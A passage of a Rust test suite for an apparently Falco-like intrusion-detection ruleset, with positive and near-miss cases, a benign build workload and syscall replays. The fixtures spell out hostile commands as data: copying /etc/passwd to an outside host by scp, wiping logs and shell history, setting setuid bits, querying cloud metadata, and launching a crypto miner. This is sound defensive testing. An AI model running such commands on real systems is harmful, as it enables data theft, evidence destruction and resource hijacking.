            vec![
                ptrace(&P::new("gdb -p 1337", SSH_SESSION), "PTRACE_ATTACH"),
                ptrace(&in_app("python3 inject.py"), "PTRACE_POKETEXT"),
                ptrace(&P::new("strace -p 1337", SSH_SESSION), "PTRACE_SEIZE"),
            ],
            vec![
                ptrace(&P::new("gdb -p 1337", SSH_SESSION), "PTRACE_PEEKDATA"),
                ptrace(&P::new("./a.out", SSH_SESSION), "PTRACE_TRACEME"),
            ],
        ),
        case(
            "Anti-Debugging with PTRACE_TRACEME",
            vec![ptrace(
                &P::new("/tmp/.x/agent", SSH_SESSION),
                "PTRACE_TRACEME",
            )],
            vec![
                ptrace(
                    &P::new("/work/app/target/debug/app", &["gdb", "bash"]),
                    "PTRACE_TRACEME",
                ),
                ptrace(&P::new("/tmp/.x/agent", SSH_SESSION), "PTRACE_GETREGS"),
            ],
        ),
        case(
            "Setuid or Setgid Bit Set",
            vec![
                chmod(
                    &P::new("chmod u+s /tmp/.sh", SSH_SESSION),
                    "/tmp/.sh",
                    "S_IXOTH|S_IROTH|S_IXGRP|S_IRGRP|S_IXUSR|S_IWUSR|S_IRUSR|S_ISUID",
                ),
                chmod(
                    &in_app("python3 x.py"),
                    "/tmp/x",
                    "S_IXUSR|S_IWUSR|S_IRUSR|S_ISGID",
                ),
            ],
            vec![
                chmod(
                    &P::new("/usr/bin/containerd", &["systemd"]),
                    "/var/lib/containerd/io.containerd.snapshotter.v1.overlayfs/snapshots/41/fs/usr/bin/passwd",
                    "S_IXOTH|S_IROTH|S_IXGRP|S_IRGRP|S_IXUSR|S_IWUSR|S_IRUSR|S_ISUID",
                ),
                chmod(
                    &P::new("chmod 755 build.sh", SSH_SESSION),
                    "build.sh",
                    "S_IXOTH|S_IROTH|S_IXGRP|S_IRGRP|S_IXUSR|S_IWUSR|S_IRUSR",
                ),
                chmod(
                    &P::new("dpkg --unpack", &["apt-get"]),
                    "/usr/bin/passwd.dpkg-new",
                    "S_IXOTH|S_IROTH|S_IXGRP|S_IRGRP|S_IXUSR|S_IWUSR|S_IRUSR|S_ISUID",
                ),
            ],
        ),
        case(
            "Log File Cleared or Deleted",
            vec![
                write(&shell(), "/var/log/auth.log"),
                remove(
                    &P::new("rm -f /var/log/syslog", SSH_SESSION),
                    "unlinkat",
                    "/var/log/syslog",
                ),
                remove(
                    &in_app("mv /var/log/nginx/access.log /dev/null"),
                    "renameat2",
                    "/var/log/nginx/access.log",
                ),
            ],
            vec![
                remove(
                    &P::new("/usr/sbin/logrotate /etc/logrotate.conf", &["systemd"]),
                    "renameat2",
                    "/var/log/syslog",
                ),
                remove(
                    &P::new("rm -f /var/log/syslog.2.gz", SSH_SESSION),
                    "unlinkat",
                    "/var/log/syslog.2.gz",
                ),
                remove(
                    &P::new("rm -f /var/log/dpkg.log.1", SSH_SESSION),
                    "unlinkat",
                    "/var/log/dpkg.log.1",
                ),
                write(
                    &P::new("apt-get install jq", &["sudo", "bash"]),
                    "/var/log/apt/eipp.log.xz",
                ),
                open(&shell(), "/var/log/auth.log", "O_APPEND|O_WRONLY"),
            ],
        ),
        case(
            "Shell History Cleared",
            vec![
                remove(
                    &P::new("rm -f /root/.bash_history", SSH_SESSION),
                    "unlinkat",
                    "/root/.bash_history",
                ),
                symlink(
                    &P::new("ln -sf /dev/null /root/.bash_history", SSH_SESSION),
                    "/dev/null",
                    "/root/.bash_history",
                ),
                write(
                    &P::new("cp /dev/null /home/alice/.zsh_history", SSH_SESSION),
                    "/home/alice/.zsh_history",
                ),
                exec(&P::new("shred -u /root/.bash_history", SSH_SESSION)),
            ],
            vec![
                write(&shell(), "/root/.bash_history"),
                remove(
                    &P::new("rm -f /tmp/notes.txt", SSH_SESSION),
                    "unlinkat",
                    "/tmp/notes.txt",
                ),
            ],
        ),
        case(
            "File Created Below /dev",
            vec![write(&shell(), "/dev/.udev-cache")],
            vec![
                open(&shell(), "/dev/null", "O_TRUNC|O_WRONLY"),
                write(&shell(), "/dev/shm/sem.x"),
            ],
        ),
        case(
            "Payload Decoded in Container",
            vec![exec(&in_app("base64 -d"))],
            vec![
                exec(&in_app("base64 -w0")),
                exec(&P::new("base64 -d", SSH_SESSION)),
            ],
        ),
        case(
            "Network Scanner or Sniffer Run in Container",
            vec![exec(&in_app("nmap -sS 10.0.0.0/24"))],
            vec![exec(&P::new("nmap -sS 10.0.0.0/24", SSH_SESSION))],
        ),
        case(
            "Remote File Copy Tool Run in Container",
            vec![exec(&in_app("scp /etc/passwd x@203.0.113.7:"))],
            vec![exec(&P::new("scp a b:", SSH_SESSION))],
        ),
        case(
            "SSH Connection to Non-Standard Port",
            vec![connect(
                &P::new("ssh -p 443 x@203.0.113.7", SSH_SESSION),
                "203.0.113.7",
                443,
            )],
            vec![
                connect(&P::new("ssh x@203.0.113.7", SSH_SESSION), "203.0.113.7", 22),
                connect(&P::new("curl https://x", SSH_SESSION), "203.0.113.7", 443),
            ],
        ),
        case(
            "Cloud Metadata Service Contacted from Container",
            vec![connect(
                &in_app("curl http://169.254.169.254/latest/meta-data/"),
                "169.254.169.254",
                80,
            )],
            vec![
                connect(
                    &P::new("curl http://169.254.169.254/", SSH_SESSION),
                    "169.254.169.254",
                    80,
                ),
                connect(&in_app("curl http://10.0.0.1/"), "10.0.0.1", 80),
            ],
        ),
        case(
            "Container Runtime Socket Contacted from Container",
            vec![connect_unix(&in_app("docker ps"), "/var/run/docker.sock")],
            vec![
                connect_unix(&P::new("docker ps", SSH_SESSION), "/var/run/docker.sock"),
                connect_unix(&in_app("logger hi"), "/dev/log"),
            ],
        ),
        case(
            "Bulk Data Destruction Tool Run",
            vec![exec(&P::new("shred -u -n 3 /srv/db.sqlite", SSH_SESSION))],
            vec![exec(&P::new("rm -rf target", SSH_SESSION))],
        ),
        case(
            "Cryptocurrency Miner Started",
            vec![
                exec(&in_app("/tmp/xmrig --donate-level 1")),
                exec(&P::new(
                    "/var/tmp/.k/kworker -o stratum+tcp://pool.example:3333 -u x",
                    &["sh", "cron"],
                )),
            ],
            vec![exec(&P::new(
                "curl -o stratum.tar.gz https://example.org/x",
                SSH_SESSION,
            ))],
        ),
        case(
            "Connection to Mining Pool Port",
            vec![connect(&in_app("/tmp/kworker"), "45.9.148.21", 3333)],
            vec![
                connect(&in_app("/tmp/kworker"), "10.0.0.5", 3333),
                connect(
                    &P::new("git-remote-https origin https://github.com/x/y", &["git"]),
                    "140.82.112.3",
                    443,
                ),
            ],
        ),
    ]
}

#[test]
fn every_rule_fires_on_its_positives_and_not_on_near_misses() {
    let rs = ruleset();
    let all = cases();
    let mut failures = Vec::new();
    let mut covered = BTreeSet::new();
    for c in &all {
        assert!(rs.rule(c.rule).is_some(), "no rule named {:?}", c.rule);
        assert!(
            !c.fire.is_empty() && !c.quiet.is_empty(),
            "{}: empty case",
            c.rule
        );
        covered.insert(c.rule);
        for (i, e) in c.fire.iter().enumerate() {
            let h = hits(rs, e);
            if !h.iter().any(|n| n == c.rule) {
                failures.push(format!(
                    "{}: positive #{i} did not fire (hits {h:?})",
                    c.rule
                ));
            }
        }
        for (i, e) in c.quiet.iter().enumerate() {
            let h = hits(rs, e);
            if h.iter().any(|n| n == c.rule) {
                failures.push(format!("{}: near miss #{i} fired", c.rule));
            }
        }
    }
    let missing: Vec<_> = rs
        .rules()
        .iter()
        .filter(|r| !covered.contains(r.name.as_str()))
        .map(|r| r.name.clone())
        .collect();
    assert!(missing.is_empty(), "rules without a case: {missing:?}");
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

// ---------------------------------------------------------------------------------------
// 3. Benign workload
// ---------------------------------------------------------------------------------------

/// `cargo build` of this workspace (host and in a container whose target/ is in the
/// writable layer), `apt-get install jq` and `git clone https://…`.
#[allow(clippy::too_many_lines)]
fn benign_workload() -> Vec<(&'static str, MapEvent)> {
    let mut v: Vec<(&'static str, MapEvent)> = Vec::new();
    let dev = &["bash", "sshd", "sshd", "systemd"];
    // --- cargo build -----------------------------------------------------------------
    for ctr in [false, true] {
        let place = |p: P| if ctr { p.ctr("rust").upper() } else { p };
        let cargo = place(P::new("/root/.cargo/bin/cargo build --release", dev).cwd("/work/main"));
        let cargo_anc = &["cargo", "bash", "sshd", "sshd", "systemd"];
        let rustc = place(P::new(
            "/root/.rustup/toolchains/stable-x86_64-unknown-linux-gnu/bin/rustc --crate-name vigil_state --edition=2024",
            cargo_anc,
        ));
        let bs = place(P::new(
            "/work/main/target/release/build/ring-3c1f0e2a/build-script-build",
            cargo_anc,
        ));
        let cc = place(P::new(
            "/usr/bin/cc -O3 -c crypto/curve25519.c",
            &["build-script-bu", "cargo", "bash"],
        ));
        let ld = place(P::new(
            "/usr/bin/ld -pie -o target/release/deps/vigil-9f2",
            &["collect2", "cc", "rustc", "cargo"],
        ));
        let testbin = place(P::new(
            "/work/main/target/release/deps/default_rules-0a1b2c",
            cargo_anc,
        ));
        v.extend([
            ("cargo exec", exec(&cargo)),
            ("cargo registry lock", write(&cargo, "/root/.cargo/.package-cache")),
            ("cargo registry crate", write(&cargo, "/root/.cargo/registry/cache/index.crates.io-6f17d22bba15001f/serde-1.0.219.crate")),
            ("cargo unpack", write(&cargo, "/root/.cargo/registry/src/index.crates.io-6f17d22bba15001f/serde-1.0.219/src/lib.rs")),
            ("cargo fetch", connect(&cargo, "151.101.2.137", 443)),
            ("cargo fingerprint", write(&cargo, "/work/main/target/release/.fingerprint/vigil-9f2/lib-vigil")),
            ("rustc exec", exec(&rustc)),
            ("rustc reads source", read(&rustc, "/work/main/crates/vigil-state/src/lib.rs")),
            ("rustc writes rlib", write(&rustc, "/work/main/target/release/deps/libvigil_state-1b2c.rlib")),
            ("rustc tmp", write(&rustc, "/tmp/rustcXyZ/symbols.o")),
            ("build script exec", exec(&bs)),
            ("build script out", write(&bs, "/work/main/target/release/build/ring-3c1f0e2a/out/libring_core.a")),
            ("cc exec", exec(&cc)),
            ("cc tmp", write(&cc, "/tmp/ccA1b2C3.s")),
            ("ld exec", exec(&ld)),
            ("ld output", write(&ld, "/work/main/target/release/deps/vigil-9f2")),
            ("ld chmod", chmod(&ld, "/work/main/target/release/deps/vigil-9f2", "S_IXOTH|S_IROTH|S_IXGRP|S_IRGRP|S_IXUSR|S_IWUSR|S_IRUSR")),
            ("test binary", exec(&testbin)),
            ("rustc ld.so.cache", read(&rustc, "/etc/ld.so.cache")),
            ("cargo as user", write(&place(P::new("/home/alice/.cargo/bin/cargo check", dev)).uid(1000), "/home/alice/.cargo/registry/index/index.crates.io-6f17d22bba15001f/.cache/se/rd/serde")),
        ]);
    }
    // --- sudo apt-get install -y jq ------------------------------------------------------
    let apt = P::new(
        "/usr/bin/apt-get install -y jq",
        &["sudo", "bash", "sshd", "sshd", "systemd"],
    );
    let apt_anc = &["apt-get", "sudo", "bash", "sshd", "sshd", "systemd"];
    let http = P::new("/usr/lib/apt/methods/http", apt_anc);
    let gpgv = P::new(
        "/usr/bin/gpgv --homedir /tmp/apt-key-gpghome",
        &["sqv", "apt-get", "sudo"],
    );
    let dpkg = P::new(
        "/usr/bin/dpkg --status-fd 35 --no-triggers --unpack --auto-deconfigure",
        apt_anc,
    );
    let dpkg_anc = &["dpkg", "apt-get", "sudo", "bash", "sshd", "sshd", "systemd"];
    let postinst = P::new("/var/lib/dpkg/info/jq.postinst configure 1.7.1", dpkg_anc);
    let sh = P::new(
        "/bin/sh -e /var/lib/dpkg/info/libjq1.postinst configure",
        dpkg_anc,
    );
    let sed = P::new(
        "/usr/bin/sed -i s/x/y/ /etc/default/jq",
        &["sh", "dpkg", "apt-get", "sudo"],
    );
    let ldconfig = P::new("/sbin/ldconfig", dpkg_anc);
    let ldconfig_real = P::new(
        "/sbin/ldconfig.real",
        &["ldconfig", "dpkg", "apt-get", "sudo"],
    );
    let alts = P::new(
        "/usr/bin/update-alternatives --install /usr/bin/editor editor /usr/bin/vim.basic 30",
        &["vim.postinst", "dpkg", "apt-get"],
    );
    let adduser = P::new(
        "/usr/sbin/useradd --system --no-create-home _jq",
        &["adduser", "jq.postinst", "dpkg", "apt-get", "sudo"],
    );
    let dsh = P::new(
        "/usr/bin/deb-systemd-helper enable jq.service",
        &["jq.postinst", "dpkg", "apt-get"],
    );
    let systemctl = P::new(
        "/usr/bin/systemctl daemon-reload",
        &["deb-systemd-inv", "jq.postinst", "dpkg", "apt-get"],
    );
    let mandb = P::new(
        "/usr/bin/mandb --quiet",
        &["man-db.postinst", "dpkg", "apt-get"],
    );
    v.extend([
        ("apt exec", exec(&apt)),
        (
            "apt lists",
            write(
                &apt,
                "/var/lib/apt/lists/deb.debian.org_debian_dists_trixie_InRelease",
            ),
        ),
        ("apt lock", write(&apt, "/var/lib/dpkg/lock-frontend")),
        ("apt eipp log", write(&apt, "/var/log/apt/eipp.log.xz")),
        (
            "apt history",
            open(
                &apt,
                "/var/log/apt/history.log",
                "O_APPEND|O_CREAT|O_WRONLY",
            ),
        ),
        ("apt http exec", exec(&http)),
        ("apt http fetch", connect(&http, "151.101.66.132", 80)),
        ("apt https fetch", connect(&http, "151.101.66.132", 443)),
        (
            "apt archive",
            write(
                &http,
                "/var/cache/apt/archives/partial/jq_1.7.1-3_amd64.deb",
            ),
        ),
        (
            "gpgv keyring",
            read(&gpgv, "/usr/share/keyrings/debian-archive-keyring.gpg"),
        ),
        ("dpkg exec", exec(&dpkg)),
        ("dpkg unpack bin", write(&dpkg, "/usr/bin/jq.dpkg-new")),
        (
            "dpkg rename bin",
            remove(&dpkg, "renameat2", "/usr/bin/jq.dpkg-new"),
        ),
        (
            "dpkg unpack lib",
            write(&dpkg, "/usr/lib/x86_64-linux-gnu/libjq.so.1.0.4.dpkg-new"),
        ),
        ("dpkg conffile", write(&dpkg, "/etc/default/jq.dpkg-new")),
        (
            "dpkg unit",
            write(&dpkg, "/lib/systemd/system/jq.service.dpkg-new"),
        ),
        ("dpkg status", write(&dpkg, "/var/lib/dpkg/status-new")),
        ("dpkg info", write(&dpkg, "/var/lib/dpkg/info/jq.list-new")),
        (
            "dpkg log",
            open(&dpkg, "/var/log/dpkg.log", "O_APPEND|O_CREAT|O_WRONLY"),
        ),
        (
            "dpkg suid",
            chmod(
                &dpkg,
                "/usr/bin/newgrp.dpkg-new",
                "S_IXOTH|S_IROTH|S_IXGRP|S_IRGRP|S_IXUSR|S_IWUSR|S_IRUSR|S_ISUID",
            ),
        ),
        ("postinst exec", exec(&postinst)),
        ("maintainer sh", exec(&sh)),
        ("sed exec", exec(&sed)),
        ("sed writes /etc", write(&sed, "/etc/default/sedAbC123")),
        (
            "sed renames /etc",
            remove(&sed, "renameat2", "/etc/default/sedAbC123"),
        ),
        ("ldconfig exec", exec(&ldconfig)),
        ("ldconfig.real exec", exec(&ldconfig_real)),
        ("ldconfig cache", write(&ldconfig_real, "/etc/ld.so.cache~")),
        (
            "update-alternatives",
            symlink(
                &alts,
                "/usr/bin/vim.basic",
                "/etc/alternatives/editor.dpkg-tmp",
            ),
        ),
        (
            "update-alternatives state",
            write(&alts, "/var/lib/dpkg/alternatives/editor.dpkg-tmp"),
        ),
        ("useradd exec", exec(&adduser)),
        ("useradd reads shadow", read(&adduser, "/etc/shadow")),
        ("useradd writes passwd", write(&adduser, "/etc/passwd+")),
        ("useradd writes shadow", write(&adduser, "/etc/shadow+")),
        (
            "deb-systemd-helper",
            symlink(
                &dsh,
                "/lib/systemd/system/jq.service",
                "/etc/systemd/system/multi-user.target.wants/jq.service",
            ),
        ),
        (
            "deb-systemd-helper state",
            write(
                &dsh,
                "/var/lib/systemd/deb-systemd-helper-enabled/jq.service.dsh-also",
            ),
        ),
        ("systemctl exec", exec(&systemctl)),
        ("mandb cache", write(&mandb, "/var/cache/man/index.db")),
    ]);
    // The same install inside a container: the new files are in the writable layer.
    let capt = P::new(
        "/usr/bin/apt-get install -y jq",
        &["bash", "containerd-shim"],
    )
    .ctr("debian");
    let cpost = P::new(
        "/var/lib/dpkg/info/jq.postinst configure",
        &["dpkg", "apt-get", "bash"],
    )
    .ctr("debian")
    .upper();
    let cnew = P::new("/usr/bin/jq --version", &["jq.postinst", "dpkg", "apt-get"])
        .ctr("debian")
        .upper();
    v.extend([
        ("container apt exec", exec(&capt)),
        ("container postinst exec", exec(&cpost)),
        ("container new binary run by postinst", exec(&cnew)),
    ]);
    // --- git clone https://github.com/vigil-sec/vigil ------------------------------------
    let git = P::new("/usr/bin/git clone https://github.com/vigil-sec/vigil", dev).cwd("/work");
    let git_anc = &["git", "bash", "sshd", "sshd", "systemd"];
    let remote = P::new(
        "/usr/lib/git-core/git-remote-https origin https://github.com/vigil-sec/vigil",
        git_anc,
    );
    let index_pack = P::new("/usr/bin/git index-pack --stdin --fix-thin", git_anc);
    v.extend([
        ("git exec", exec(&git)),
        ("git config", read(&git, "/root/.gitconfig")),
        ("git system config", read(&git, "/etc/gitconfig")),
        ("git init", write(&git, "/work/vigil/.git/config")),
        (
            "git hooks",
            write(&git, "/work/vigil/.git/hooks/pre-commit.sample"),
        ),
        (
            "git hooks mode",
            chmod(
                &git,
                "/work/vigil/.git/hooks/pre-commit.sample",
                "S_IXOTH|S_IROTH|S_IXGRP|S_IRGRP|S_IXUSR|S_IWUSR|S_IRUSR",
            ),
        ),
        ("git-remote-https exec", exec(&remote)),
        (
            "git-remote-https connect",
            connect(&remote, "140.82.112.3", 443),
        ),
        (
            "git-remote-https connect v6",
            connect(&remote, "2606:50c0:8000::154", 443),
        ),
        (
            "git certs",
            read(&remote, "/etc/ssl/certs/ca-certificates.crt"),
        ),
        ("git index-pack", exec(&index_pack)),
        (
            "git pack",
            write(&index_pack, "/work/vigil/.git/objects/pack/tmp_pack_Xy12ab"),
        ),
        (
            "git checkout",
            write(&git, "/work/vigil/crates/vigil/src/main.rs"),
        ),
        (
            "git checkout script",
            write(&git, "/work/vigil/scripts/bench.sh"),
        ),
        (
            "git lock rename",
            remove(&git, "renameat2", "/work/vigil/.git/index.lock"),
        ),
    ]);
    v
}

#[test]
fn benign_workload_raises_nothing_at_warning_or_above() {
    let all = ruleset();
    let loud = all.configure(
        &RulesetConfig::default()
            .rule_matching(RuleMatching::All)
            .min_priority(Priority::Warning),
    );
    let work = benign_workload();
    assert!(work.len() > 80, "{}", work.len());
    let mut bad = Vec::new();
    let mut quiet_hits: BTreeMap<String, usize> = BTreeMap::new();
    for (what, e) in &work {
        let h = hits(&loud, e);
        if !h.is_empty() {
            bad.push(format!("{what}: {h:?}"));
        }
        for n in hits(all, e) {
            *quiet_hits.entry(n).or_default() += 1;
        }
    }
    eprintln!(
        "benign workload: {} events; below-WARNING hits: {quiet_hits:?}",
        work.len()
    );
    assert!(
        bad.is_empty(),
        "benign events raised alerts:\n{}",
        bad.join("\n")
    );
}

// ---------------------------------------------------------------------------------------
// 4. Corpus captures
// ---------------------------------------------------------------------------------------

fn traces() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../../../shared/corpus/falco/traces")
}

fn scap_files(dir: &Path, out: &mut Vec<PathBuf>) {
    let Ok(rd) = std::fs::read_dir(dir) else {
        return;
    };
    let mut entries: Vec<_> = rd.filter_map(Result::ok).map(|e| e.path()).collect();
    entries.sort();
    for p in entries {
        if p.is_dir() {
            scap_files(&p, out);
        } else if p.extension().is_some_and(|x| x == "scap") {
            out.push(p);
        }
    }
}

/// Replay one capture through State and the ruleset; per-rule counts.
fn replay(rs: &Ruleset, path: &Path) -> (usize, BTreeMap<String, usize>) {
    let Ok(reader) = Reader::open(path) else {
        panic!("{}: cannot open", path.display());
    };
    let mut conv = Converter::new(reader);
    let mut state = State::new();
    let mut counts: BTreeMap<String, usize> = BTreeMap::new();
    let mut events = 0;
    let mut h = Vec::new();
    while let Ok(Some(b)) = conv.next() {
        state.apply_block(&b);
        if let Block::Event(ev) = &b {
            events += 1;
            let v = state.view(ev);
            h.clear();
            rs.evaluate(SYSCALL_SOURCE, &v, &mut h);
            for r in &h {
                *counts.entry(r.name.clone()).or_default() += 1;
            }
        }
    }
    state.flush();
    (events, counts)
}

#[test]
fn corpus_captures_replay_with_justified_detections() {
    let mut files = Vec::new();
    scap_files(&traces(), &mut files);
    if files.is_empty() {
        assert!(std::env::var_os("CI").is_none(), "corpus traces missing");
        return;
    }
    let rs = ruleset();
    let mut results: BTreeMap<String, BTreeMap<String, usize>> = BTreeMap::new();
    for f in &files {
        let (events, counts) = replay(rs, f);
        let rel = f.strip_prefix(traces()).unwrap_or(f).display().to_string();
        eprintln!("{rel}: {events} events, detections {counts:?}");
        // Every capture here is benign activity (cat, curl, ping, python opening files,
        // shells and ls in nginx containers): nothing at WARNING or above.
        for name in counts.keys() {
            let r = rs.rule(name).expect("rule");
            assert!(
                !r.priority.at_least(Priority::Warning),
                "{rel}: {name} ({:?}) fired on a benign capture",
                r.priority
            );
        }
        results.insert(rel, counts);
    }
    assert!(files.len() >= 10, "{} captures", files.len());
    let count = |cap: &str, rule: &str| {
        results
            .get(cap)
            .and_then(|c| c.get(rule))
            .copied()
            .unwrap_or(0)
    };
    // privileged.scap holds one `container` event for nginx:latest with "privileged": true.
    assert_eq!(
        count(
            "falco_psp_extra/privileged.scap",
            "Privileged Container Started"
        ),
        1
    );
    // The unprivileged nginx container of the other PSP captures is not reported.
    for cap in [
        "falco_psp_extra/run_as_user_0_container.scap",
        "falco_psp_extra/run_as_user_65534_container.scap",
        "falco_psp_extra/write_tmp_test.scap",
    ] {
        assert_eq!(count(cap, "Privileged Container Started"), 0, "{cap}");
    }
}

// ---------------------------------------------------------------------------------------
// End to end: raw scap events through the real state engine and extractor
// ---------------------------------------------------------------------------------------

mod end_to_end {
    use super::*;
    use vigil_scap::{OwnedEvent, RawEvent, ThreadInfo, code_of_symbol};

    const AT_FDCWD: i64 = -100;
    const DOCKER_CG: &str =
        "cpu=/docker/3d1c8f9a2b7e4c5d6e7f8091a2b3c4d5e6f708192a3b4c5d6e7f8091a2b3c4d5\0";

    fn code(sym: &str) -> u16 {
        code_of_symbol(sym).unwrap_or_else(|| panic!("{sym}"))
    }

    fn thread(tid: u64, ptid: u64, comm: &str, args: &str, cgroups: &str) -> Block<'static> {
        let mut t = ThreadInfo {
            tid,
            pid: tid,
            ptid,
            comm: comm.into(),
            exe: format!("/usr/bin/{comm}"),
            exepath: format!("/usr/bin/{comm}"),
            args: args.replace(' ', "\0").into_bytes(),
            cwd: "/root/".into(),
            ..ThreadInfo::default()
        };
        t.cgroups = cgroups.as_bytes().to_vec();
        Block::Process(Box::new(t))
    }

    fn host() -> State {
        let mut st = State::new();
        st.apply_block(&thread(1, 0, "systemd", "", "cpu=/\0"));
        st.apply_block(&thread(50, 1, "sshd", "-D", "cpu=/\0"));
        st.apply_block(&thread(100, 50, "bash", "", "cpu=/user.slice\0"));
        st.apply_block(&thread(300, 100, "cat", "/etc/shadow", "cpu=/user.slice\0"));
        st.apply_block(&thread(400, 1, "containerd-shim", "", "cpu=/\0"));
        st.apply_block(&thread(500, 400, "python3", "x.py", DOCKER_CG));
        st
    }

    /// Apply one event and return the names of the rules it fires.
    fn fire(st: &mut State, ev: OwnedEvent) -> Vec<String> {
        let mut buf = Vec::new();
        let mut ranges = Vec::new();
        for p in &ev.params {
            let s = u32::try_from(buf.len()).expect("len");
            buf.extend_from_slice(p);
            ranges.push((s, u32::try_from(buf.len()).expect("len")));
        }
        let raw = RawEvent::new(ev.ts, ev.tid, 0, 0, ev.code, &buf, &ranges);
        st.apply(&raw);
        let v = st.view(&raw);
        let mut h = Vec::new();
        ruleset().evaluate(SYSCALL_SOURCE, &v, &mut h);
        h.iter().map(|r| r.name.clone()).collect()
    }

    fn openat(tid: u64, fd: i64, path: &str, flags: u32) -> OwnedEvent {
        OwnedEvent::new(1, tid, code("SYSCALL_OPENAT_2_X"))
            .push_i64(fd)
            .push_i64(AT_FDCWD)
            .push_str(path)
            .push_u32(flags)
            .push_u32(0)
            .push_u32(0)
            .push_u64(0)
    }

    fn has(h: &[String], rule: &str) -> bool {
        h.iter().any(|n| n == rule)
    }

    #[test]
    fn attacks_fire_through_the_state_engine() {
        let mut st = host();
        // cat /etc/shadow from an SSH session (PPM_O_RDONLY = 1).
        let h = fire(&mut st, openat(300, 3, "/etc/shadow", 1));
        assert!(
            has(&h, "Credential Store Read by Untrusted Program"),
            "{h:?}"
        );
        // The same file missing: not reported (fd.num = -1).
        let h = fire(&mut st, openat(300, -2, "/etc/shadow", 1));
        assert!(h.is_empty(), "{h:?}");
        // A redirect truncating a log (O_WRONLY|O_CREAT|O_TRUNC, created flag unset).
        let h = fire(&mut st, openat(100, 4, "/var/log/auth.log", 2 | 4 | 256));
        assert!(has(&h, "Log File Cleared or Deleted"), "{h:?}");
        // bash > /dev/null does not create a file below /dev.
        let h = fire(&mut st, openat(100, 5, "/dev/null", 2 | 4 | 256));
        assert!(h.is_empty(), "{h:?}");
        // rm /var/log/syslog (unlinkat relative to the cwd).
        let h = fire(
            &mut st,
            OwnedEvent::new(2, 300, code("SYSCALL_UNLINKAT_2_X"))
                .push_i64(0)
                .push_i64(AT_FDCWD)
                .push_str("/var/log/syslog")
                .push_u32(0),
        );
        assert!(has(&h, "Log File Cleared or Deleted"), "{h:?}");
        // ln -s /etc/shadow /tmp/s
        let h = fire(
            &mut st,
            OwnedEvent::new(3, 300, code("SYSCALL_SYMLINKAT_X"))
                .push_i64(0)
                .push_str("/etc/shadow")
                .push_i64(AT_FDCWD)
                .push_str("/tmp/s"),
        );
        assert!(has(&h, "Symlink Pointing at Sensitive File"), "{h:?}");
        // chmod 4755 /tmp/sh (fchmodat).
        let h = fire(
            &mut st,
            OwnedEvent::new(4, 300, code("SYSCALL_FCHMODAT_X"))
                .push_i64(0)
                .push_i64(AT_FDCWD)
                .push_str("/tmp/sh")
                .push_u32(0o4755),
        );
        assert!(has(&h, "Setuid or Setgid Bit Set"), "{h:?}");
        // ptrace(PTRACE_ATTACH, 1337) and PTRACE_PEEKDATA (no alert).
        let dynval = {
            let mut v = vec![0u8];
            v.extend_from_slice(&0u64.to_le_bytes());
            v
        };
        let ptrace = |req: u16| {
            OwnedEvent::new(5, 300, code("SYSCALL_PTRACE_X"))
                .push_i64(0)
                .push(dynval.clone())
                .push(dynval.clone())
                .push_u16(req)
                .push_i64(1337)
        };
        let h = fire(&mut st, ptrace(11));
        assert!(has(&h, "Process Attached with ptrace"), "{h:?}");
        let h = fire(&mut st, ptrace(3));
        assert!(h.is_empty(), "{h:?}");
        // socket(AF_PACKET) in a container, then AF_INET.
        let socket = |domain: u32| {
            OwnedEvent::new(6, 500, code("SOCKET_SOCKET_X"))
                .push_i64(7)
                .push_u32(domain)
                .push_u32(3)
                .push_u32(0)
                .push_u32(0)
        };
        let h = fire(&mut st, socket(17));
        assert!(has(&h, "Raw Packet Socket Opened in Container"), "{h:?}");
        let h = fire(&mut st, socket(2));
        assert!(h.is_empty(), "{h:?}");
        // A write into /usr/local/bin from the container.
        let h = fire(&mut st, openat(500, 8, "/usr/local/bin/ps", 2 | 4 | 256));
        assert!(
            has(&h, "File Written Below System Program Directory"),
            "{h:?}"
        );
    }
}
